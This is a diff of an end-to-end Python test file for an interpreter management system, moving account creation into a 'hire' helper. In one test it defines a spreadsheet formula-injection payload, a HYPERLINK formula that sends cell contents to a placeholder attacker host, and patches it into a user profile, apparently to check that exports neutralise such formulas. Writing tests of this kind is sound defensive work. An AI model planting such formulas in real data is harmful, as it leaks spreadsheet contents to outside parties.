@@ -25,7 +25,7 @@ from nameko.standalone.rpc import ClusterRpcProxy
 
 from ims_common.testing.wait import wait_until
 from ims_common.times import MONTREAL
-from tests.api_client import ApiClient
+from tests.api_client import ApiClient, hire
 from tests.web_client import web_sign_in
 
 pytestmark = pytest.mark.e2e
@@ -60,8 +60,8 @@ def people(system):
 
     def account(role, first, last, **extra):
         body = {"email": f"{first.lower()}.{last.lower()}@example.org", "first_name": first,
-                "last_name": last, "role": role, "password": PASSWORD, **extra}
-        acc = coord.ok(coord.post("/accounts", body), 201)
+                "last_name": last, "role": role, **extra}
+        acc = hire(coord, body, PASSWORD)
         return acc, ApiClient.login(system.url, acc["user_id"], PASSWORD)
 
     return {"coord": coord, "ines": account("interpreter", "Ines", "Paie"),
@@ -332,8 +332,8 @@ def test_pay_the_bank_can_sign_off(system, people, tmp_path):
     coord = people["coord"]
     ines, ines_api = people["ines"]
     body = {"email": "hugo.lointain@example.org", "first_name": "Hugo", "last_name": "Lointain",
-            "role": "interpreter", "password": PASSWORD}
-    hugo = coord.ok(coord.post("/accounts", body), 201)
+            "role": "interpreter"}
+    hugo = hire(coord, body, PASSWORD)
     hugo_api = ApiClient.login(system.url, hugo["user_id"], PASSWORD)
     evil = '=HYPERLINK("http://evil.example/?d="&A1,"Détails")'
     coord.ok(coord.request("PATCH", f"/profiles/{hugo['user_id']}", json={
